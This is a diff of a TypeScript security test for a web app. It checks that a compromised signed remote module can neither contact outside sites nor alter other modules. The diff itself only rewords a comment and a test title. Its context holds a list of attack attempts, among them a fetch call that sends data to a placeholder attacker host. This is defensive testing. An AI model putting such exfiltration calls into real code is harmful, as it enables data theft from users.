@@ -4,7 +4,7 @@ import { starting, variantOf } from '../fixtures/variants.ts';
 /**
  * What a signed remote that turned malicious tries beyond running code from elsewhere (`integrity.spec.ts`). Each text runs in its file and throws, or
  * answers something falsy, when it got nowhere. A release shares the page with everything else: what `ACCEPTED` holds cannot be stopped there
- * (docs/faults.md says what stands against it instead).
+ * (docs/faults.md lists the protections against it instead).
  */
 const STOPPED: Readonly<Record<string, string>> = {
   'tell another site by fetch': `await fetch(EVIL + '/fetch', { mode: 'no-cors' }); return true`,
@@ -43,7 +43,7 @@ function tryEach(attempts: Readonly<Record<string, string>>, evil: string): stri
   })()`;
 }
 
-test('a signed remote that turned malicious tells nobody outside, and changes nothing under the others; what it can do is what we accept [T07] [T10]', async ({
+test('a signed remote that turned malicious sends nothing outside and changes nothing of the others [T07] [T10]', async ({
   page,
   site,
 }) => {
